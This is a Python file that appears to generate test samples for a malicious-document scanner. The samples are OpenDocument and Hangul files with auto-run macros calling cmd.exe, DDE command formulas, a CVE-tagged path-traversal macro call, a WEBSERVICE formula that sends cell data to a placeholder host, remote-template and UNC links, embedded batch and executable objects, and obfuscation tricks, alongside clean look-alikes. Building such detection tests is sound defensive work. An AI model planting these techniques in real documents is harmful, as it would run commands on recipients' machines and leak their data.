"""OpenDocument, in packages and flat, and Hangul's packages (OWPML)."""
import base64
import struct

from _cfb import cfb
from _tricks import trick, zipped

NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
      'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
      'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
      'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:ooo="http://openoffice.org/2004/office"')
HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
RUNS = 'REM  *****  BASIC  *****\n\nSub Main\n  Shell("cmd.exe", 0, "/c echo hello", False)\nEnd Sub\n'
SUM = 'REM  *****  BASIC  *****\nRem Shell("cmd.exe")\nSub Main\n  x = ThisComponent.Sheets(0).getCellByPosition(0, 0).Value + 1\nEnd Sub\n'


def escaped(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def listener(event, href, tag="script:event-listener"):
    return (f'<office:event-listeners><{tag} script:language="ooo:script" script:event-name="{event}" '
            f'xlink:href="{escaped(href)}" xlink:type="simple"/></office:event-listeners>')


def of_document(name="Standard.Module1.Main", language="Basic"):
    return f"vnd.sun.star.script:{name}?language={language}&location=document"


def content(body, scripts="", kind="text"):
    return (f"{HEAD}<office:document-content {NS}><office:scripts>{scripts}</office:scripts>"
            f"<office:body><office:{kind}>{body}</office:{kind}></office:body></office:document-content>").encode()


def manifest(entries=""):
    return (HEAD + '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
            + entries + "</manifest:manifest>").encode()


def package(body, *more, scripts="", kind="text", mimetype=True, entries=""):
    said = [("mimetype", f"application/vnd.oasis.opendocument.{kind}".encode())] if mimetype else []
    return zipped(said + [("content.xml", content(body, scripts, kind)), *more, ("META-INF/manifest.xml", manifest(entries))])


def module(text, name="Module1"):
    return (f"Basic/Standard/{name}.xml",
            (HEAD + '<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">\n'
             f'<script:module xmlns:script="http://openoffice.org/2000/script" script:name="{name}" script:language="StarBasic">'
             f"{escaped(text)}</script:module>").encode())


def flat(body, scripts="", kind="text"):
    return (f'{HEAD}\n<office:document {NS} office:mimetype="application/vnd.oasis.opendocument.{kind}"><office:scripts>'
            f"{scripts}</office:scripts><office:body><office:{kind}>{body}</office:{kind}></office:body></office:document>")


def flat_module(text):
    return ('<office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard">'
            f'<ooo:module ooo:name="Module1"><ooo:source-code>{escaped(text)}</ooo:source-code></ooo:module>'
            "</ooo:library-embedded></ooo:libraries></office:script>")


PARAGRAPH = "<text:p>Hello</text:p>"
ON_LOAD = listener("dom:load", of_document())


# --- macros ---

@trick("odf-macro", "Offer.odt", "file.macro/runs")
def odf_macro():
    return package(PARAGRAPH, module(RUNS), scripts=ON_LOAD)


@trick("odf-macro-prefixes", "Offer.ott", "file.macro/runs")
def odf_macro_prefixes():
    """Other prefixes, other quotes, no "mimetype", a listener of the first version, UTF-16."""
    name, text = module('sub MAIN\n Set a = CreateUnoService ( _\n "com.sun.star.system.SystemShellExecute")\n a.execute("x", "", 0)\nEnd Sub\n')
    old = '<office:event-listeners><script:event script:event-name="on-load" script:macro-name="Standard.Module1.Main"/></office:event-listeners>'
    members = [("content.xml", content(PARAGRAPH, old).decode().replace("script:", "q:").replace(":script=", ":q=").encode("utf-16")),
               (name, text.replace(b"script:", b"z:").replace(b":script=", b":z=").replace(b'"', b"'")), ("META-INF/manifest.xml", manifest())]
    return zipped(members)


@trick("odf-macro-closing", "Offer.ods", "file.macro/runs")
def odf_macro_closing():
    return package("<table:table/>", module(RUNS, "Werkzeug"), scripts=listener("dom:unload", of_document("Standard.Werkzeug.Main")),
                   kind="spreadsheet")


@trick("odf-macro-mouse", "Offer.odp", "file.macro/runs")
def odf_macro_mouse():
    return package('<draw:frame>' + listener("dom:mouseover", of_document()) + "</draw:frame>", module(RUNS), kind="presentation")


@trick("odf-macro-python", "Offer.odt", "file.macro/runs")
def odf_macro_python():
    text = b'import os, subprocess as s\n\ndef main(*args):\n    s.run(["cmd.exe", "/c", "echo hello"])\n'
    return package(PARAGRAPH, ("Scripts/python/Library/tool.py", text), scripts=listener("dom:load", of_document("Library|tool.py$main", "Python")))


@trick("odf-macro-beanshell", "Offer.odt", "file.macro/runs")
def odf_macro_beanshell():
    text = b'// a tool\nRuntime.getRuntime().exec("cmd.exe /c echo hello");\n'
    return package(PARAGRAPH, ("Scripts/beanshell/Library1/tool.bsh", text),
                   scripts=listener("office:view-created", of_document("Library1.tool.bsh", "BeanShell")))


@trick("odf-macro-installed", "Offer.odt", "file.macro/runs")
def odf_macro_installed():
    """The document brings no program, it calls one of the office (CVE-2018-16858, CVE-2019-9848)."""
    href = "vnd.sun.star.script:../../../program/python-core/lib/pydoc.py$tempfilepager?language=Python&location=share"
    return package('<text:p><text:a xlink:href="https://www.example.com/">' + listener("dom:mouseover", href) + "here</text:a></text:p>")


@trick("odf-macro-compiled", "Offer.odt", "file.macro/unreadable")
def odf_macro_compiled():
    return package(PARAGRAPH, ("Basic/Standard/Module1.pba", b"SBXC" + bytes(80)), scripts=ON_LOAD)


@trick("odf-macro-called", "Offer.odt", "file.macro/calls")
def odf_macro_called():
    return package("<draw:control>" + listener("dom:click", of_document()) + "</draw:control>", module(RUNS))


@trick("fodt-macro", "Offer.fodt", "file.macro/runs")
def fodt_macro():
    return flat(PARAGRAPH, flat_module(RUNS) + ON_LOAD).encode()


@trick("fodt-macro-wide", "Offer.xml", "file.macro/runs")
def fodt_macro_wide():
    text = flat_module(RUNS).replace("Shell(", "<![CDATA[She]]><!-- x -->ll(")
    return flat(PARAGRAPH, text + ON_LOAD).encode("utf-16")


@trick("fodt-macro-cdata", "Offer.xml", "file.macro/runs")
def fodt_macro_cdata():
    """Comments and a document type before the root, text in pieces."""
    text = flat_module(RUNS).replace("Shell(", "<![CDATA[She]]><!-- x -->l&#x6C;(")
    head = HEAD + "<!-- a > b -->\n<!DOCTYPE office:document [<!ELEMENT a ANY>]>\n"
    return flat(PARAGRAPH, text + ON_LOAD).replace(HEAD, head).encode()


# --- what is fetched ---

@trick("odf-template", "Offer.odt", "file.remote")
def odf_template():
    meta = (f'{HEAD}<office:document-meta {NS}><office:meta><meta:template xlink:type="simple" xlink:actuate="onRequest" '
            'xlink:href="https://files.example.com/a.ott"/></office:meta></office:document-meta>').encode()
    return package(PARAGRAPH, ("meta.xml", meta))


@trick("odf-section", "Offer.odt", "file.remote")
def odf_section():
    return package('<text:section text:name="a"><text:section-source xlink:href="https://files.example.com/a.odt"/></text:section>')


@trick("odf-object", "Offer.odt", "file.remote/share")
def odf_object():
    return package('<draw:frame><draw:object xlink:href="file://192.0.2.7/a/b.odt" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>')


@trick("odf-webdav", "Offer.odt", "file.remote")
def odf_webdav():
    return package('<draw:frame><draw:object-ole xlink:href="vnd.sun.star.webdav://files.example.com/b.odt"/></draw:frame>')


@trick("odf-frame", "Offer.odt", "file.remote/frame")
def odf_frame():
    return package('<draw:frame><draw:floating-frame xlink:href="https://files.example.com/a.html"/></draw:frame>')


@trick("odf-library", "Offer.odt", "file.remote")
def odf_library():
    text = (HEAD + '<library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink">'
            '<library:library library:name="Tools" xlink:href="https://files.example.com/script.xlb/" library:link="true"/></library:libraries>')
    return package(PARAGRAPH, ("Basic/script-lc.xml", text.encode()))


@trick("odf-sheet", "Prices.ods", "file.remote/linked")
def odf_sheet():
    return package('<table:table><table:table-source xlink:href="https://files.example.com/a.ods"/></table:table>', kind="spreadsheet")


@trick("odf-webservice", "Prices.ods", "file.remote/linked")
def odf_webservice():
    return package('<table:table-cell table:formula="of:=1+COM.MICROSOFT.WEBSERVICE(&quot;https://files.example.com/?a=&quot;&amp;[.A1])"/>',
                   kind="spreadsheet")


@trick("fods-picture-share", "Prices.fods", "file.remote/share")
def fods_picture_share():
    return flat('<draw:image xlink:href="\\\\192.0.2.7\\a\\b.png"/>', kind="spreadsheet").encode()


# --- DDE ---

@trick("odf-dde", "Prices.ods", "file.dde/command")
def odf_dde():
    return package('<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="/c echo hello" '
                   'office:dde-item="a"/></table:dde-link></table:dde-links>', kind="spreadsheet")


@trick("odf-dde-formula", "Prices.ods", "file.dde/command")
def odf_dde_formula():
    return package('<table:table-cell table:formula="of:=SUM([.A1]) + dde (&quot;c&quot;&amp;&quot;md&quot;;&quot;/c echo hello&quot;;&quot;a&quot;)"/>',
                   kind="spreadsheet")


@trick("odf-dde-excel", "Prices.ods", "file.dde/command")
def odf_dde_excel():
    return package("<table:table-cell table:formula=\"msoxl:=cmd|'/c echo hello'!A1\"/>", kind="spreadsheet")


@trick("fodt-dde", "Offer.fodt", "file.dde/command")
def fodt_dde():
    return flat('<text:dde-connection-decls><text:dde-connection-decl office:name="a" office:dde-application="C:\\a\\cmd.exe" '
                'office:dde-topic="/c echo hello" office:dde-item="b"/></text:dde-connection-decls>').encode()


# --- what lies inside ---

def native(name, data):
    path = b"C:\\Temp\\" + name.encode() + b"\0"
    inner = struct.pack("<H", 2) + name.encode() + b"\0" + path + struct.pack("<HHI", 0, 3, len(path)) + path
    inner += struct.pack("<I", len(data)) + data
    return cfb([("\1Ole10Native", struct.pack("<I", len(inner)) + inner)])


BATCH = native("Agenda.bat", b"@echo off\r\necho hello\r\n")


@trick("odf-package", "Offer.odt", "file.package")
def odf_package():
    return package('<draw:frame><draw:object-ole xlink:href="./Object 1"/><draw:image xlink:href="./ObjectReplacements/Object 1"/></draw:frame>',
                   ("Object 1", BATCH))


@trick("fodt-package", "Offer.fodt", "file.package")
def fodt_package():
    text = base64.encodebytes(BATCH).decode()
    return flat(f"<draw:frame><draw:object-ole><office:binary-data>{text}</office:binary-data></draw:object-ole></draw:frame>").encode()


@trick("odf-members", "Offer.odt", "file.program")
def odf_members():
    """An archive that calls itself a document."""
    return package(PARAGRAPH, ("Offer.pdf.bat", b"@echo off\r\necho hello\r\n"), ("Offer.pdf.exe", b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(200)))


CIPHER = ('<manifest:encryption-data><manifest:algorithm manifest:algorithm-name="http://www.w3.org/2001/04/xmlenc#aes256-cbc" '
          'manifest:initialisation-vector="AAAAAAAAAAAAAAAAAAAAAA=="/></manifest:encryption-data>')


def locked_entry(name):
    return f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="text/xml">{CIPHER}</manifest:file-entry>'


@trick("odf-locked", "Offer.odt", "file.sealed/closed")
def odf_locked():
    return zipped([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", bytes(range(200))),
                   ("META-INF/manifest.xml", manifest(locked_entry("content.xml")))])


@trick("odf-locked-name", "Offer.odt", "file.name.extension")
def odf_locked_name():
    return zipped([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", bytes(range(200))), ("Offer.pdf.exe", bytes(range(200))),
                   ("META-INF/manifest.xml", manifest(locked_entry("content.xml") + locked_entry("Offer.pdf.exe")))])


@trick("odf-entities", "Offer.odt", "file.unread")
def odf_entities():
    text = content("<text:p>&a;</text:p>").replace(b"<office:document", b'<!DOCTYPE a [<!ENTITY a "b">]><office:document', 1)
    return zipped([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", text), ("META-INF/manifest.xml", manifest())])


@trick("odf-textless", "Offer.odt", "file.unread")
def odf_textless():
    return zipped([("mimetype", b"application/vnd.oasis.opendocument.text"), ("META-INF/manifest.xml", manifest())])


@trick("odf-database", "Stock.odb", "file.unread")
def odf_database():
    return package("<a/>", ("database/script", b"CREATE SCHEMA PUBLIC"), kind="database")


@trick("fodt-cut", "Offer.fodt", "file.unread")
def fodt_cut():
    return flat(PARAGRAPH, flat_module(RUNS)).encode()[:-60]


# --- honest ---

@trick("odf-plain", "Letter.odt")
def odf_plain():
    body = ('<text:p><text:a xlink:type="simple" xlink:href="https://www.example.com/">here</text:a> Shell("cmd.exe") DDE</text:p>'
            '<draw:frame><draw:object xlink:href="./Object 1" xlink:actuate="onLoad"/><draw:image xlink:href="./ObjectReplacements/Object 1" '
            'xlink:actuate="onLoad"/></draw:frame><draw:control>' + listener("dom:click", of_document()) + "</draw:control>")
    meta = (f'{HEAD}<office:document-meta {NS}><office:meta><meta:template xlink:href="../../Templates/letter.ott"/></office:meta>'
            "</office:document-meta>").encode()
    return package(body, module(SUM), ("meta.xml", meta), ("Object 1/content.xml", content(PARAGRAPH)),
                   ("ObjectReplacements/Object 1", b"\1\0\0\0 EMF"), ("layout-cache", b"\0\1"), ("Configurations2/menubar/", b""),
                   scripts=listener("dom:load", of_document()))


@trick("odf-plain-sheet", "Prices.ods")
def odf_plain_sheet():
    body = ('<table:table><table:table-source xlink:href="../other.ods"/></table:table>'
            '<table:table-cell table:formula="of:=HYPERLINK(&quot;https://www.example.com/&quot;;&quot;DDE(cmd)&quot;)"/>'
            "<table:table-cell table:formula=\"of:='file:///c:/books/a.ods'#$Sheet1.A1+['My sheet'.A1]\"/>"
            '<office:dde-source office:dde-application="soffice" office:dde-topic="C:\\books\\a.ods" office:dde-item="A1"/>')
    return package(body, kind="spreadsheet")


@trick("odf-plain-python", "Letter.odt")
def odf_plain_python():
    text = ('import platform\n# subprocess.run("cmd.exe")\ndef main(*args):\n    """Says on which system() it runs."""\n'
            "    doc = XSCRIPTCONTEXT.getDocument()\n    doc.Text.String = platform.system()\n").encode()
    return package(PARAGRAPH, ("Scripts/python/where.py", text), scripts=listener("dom:load", of_document("where.py$main", "Python")))


@trick("fodt-plain", "Letter.fodt")
def fodt_plain():
    return flat('<text:p><text:a xlink:href="https://www.example.com/">here</text:a></text:p><draw:frame><draw:image><office:binary-data>'
                'iVBORw0KGgo=</office:binary-data></draw:image></draw:frame>', flat_module(SUM) + ON_LOAD).encode()


# --- Hangul ---

STOCK = "var Documents = XHwpDocuments;\r\nvar Document = Documents.Active_XHwpDocument;\r\n"
HPF = ('<?xml version="1.0"?><opf:package xmlns:opf="http://www.idpf.org/2007/opf/"><opf:manifest>'
       '<opf:item id="section0" href="Contents/section0.xml" media-type="application/xml"/>{}</opf:manifest></opf:package>')


def hwpx(section="", *more, items="", mimetype=True, source=STOCK, entries=""):
    said = [("mimetype", b"application/hwp+zip")] if mimetype else []
    text = f'<?xml version="1.0"?><hs:sec xmlns:hs="a" xmlns:hp="b"><hp:p><hp:run>{section}</hp:run></hp:p></hs:sec>'
    return zipped(said + [("version.xml", b"<?xml version='1.0'?><a/>"), ("Contents/content.hpf", HPF.format(items).encode()),
                          ("Contents/section0.xml", text.encode()), ("Scripts/headerScripts", STOCK.encode("utf-16-le")),
                          ("Scripts/sourceScripts", source.encode("utf-16-le")), ("Preview/PrvText.txt", b"Hello"),
                          ("META-INF/manifest.xml", manifest(entries)), *more])


def link(command):
    return ('<hp:ctrl><hp:fieldBegin id="1" type="HYPERLINK"><hp:parameters cnt="2"><hp:integerParam name="Prop">0</hp:integerParam>'
            f'<hp:stringParam name="Command">{escaped(command)}</hp:stringParam></hp:parameters></hp:fieldBegin></hp:ctrl>')


@trick("hwpx-script", "Plan.hwpx", "file.hwp/script")
def hwpx_script():
    return hwpx(source=STOCK + 'function OnDocument_Open()\r\n{\r\n\tvar a = new ActiveXObject("x.y");\r\n}\r\n')


@trick("hwpx-script-elsewhere", "Plan.hwpx", "file.hwp/script")
def hwpx_script_elsewhere():
    text = 'function OnDocument_Open() { new ActiveXObject("x.y"); }'
    return hwpx("", ("Contents/a.dat", b"\xff\xfe" + text.encode("utf-16-le")), mimetype=False,
                items='<opf:item id="s" href="Contents/a.dat" media-type="application/x-javascript ;charset=utf-16"/>')


@trick("hwpx-link", "Plan.hwpx", "file.hwp/link")
def hwpx_link():
    return hwpx(link("%TEMP%\\\\hwp.bat;1;0;0;"))


@trick("hwpx-link-shape", "Plan.hwpx", "file.hwp/link")
def hwpx_link_shape():
    return hwpx('<hp:pic href="C\\:\\\\Temp\\\\a.exe;1;0;0;"/>')


@trick("hwpx-package", "Plan.hwpx", "file.package")
def hwpx_package():
    return hwpx('<hp:ole binaryItemIDRef="ole1"/>', ("BinData/ole1.ole", struct.pack("<I", len(BATCH)) + BATCH),
                items='<opf:item id="ole1" href="BinData/ole1.ole" media-type="application/ole" isEmbeded="1"/>')


@trick("hwpx-program", "Plan.hwpx", "file.package")
def hwpx_program():
    return hwpx("", ("BinData/tool.exe", b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(200)))


@trick("hwpx-object-share", "Plan.hwpx", "file.remote/share")
def hwpx_object_share():
    return hwpx(items='<opf:item id="ole1" href="\\\\192.0.2.7\\a\\b.ole" media-type="application/ole" isEmbeded="0"/>')


@trick("hwpx-locked", "Plan.hwpx", "file.sealed/closed")
def hwpx_locked():
    return hwpx(entries=locked_entry("Contents/section0.xml"))


@trick("hwpx-textless", "Plan.hwpx", "file.unread")
def hwpx_textless():
    return zipped([("mimetype", b"application/hwp+zip"), ("version.xml", b"<a/>")])


@trick("hwpx-plain", "Plan.hwpx")
def hwpx_plain():
    return hwpx(link("https\\://www.example.com/;1;0;0;") + '<hp:pic href=""/><hp:t>%TEMP%\\a.exe</hp:t>',
                ("BinData/image1.png", b"\x89PNG\r\n\x1a\n" + bytes(30)),
                items='<opf:item id="image1" href="BinData/image1.png" media-type="image/png" isEmbeded="1"/>'
                '<opf:item id="s" href="Scripts/sourceScripts" media-type="application/x-javascript ;charset=utf-16"/>')
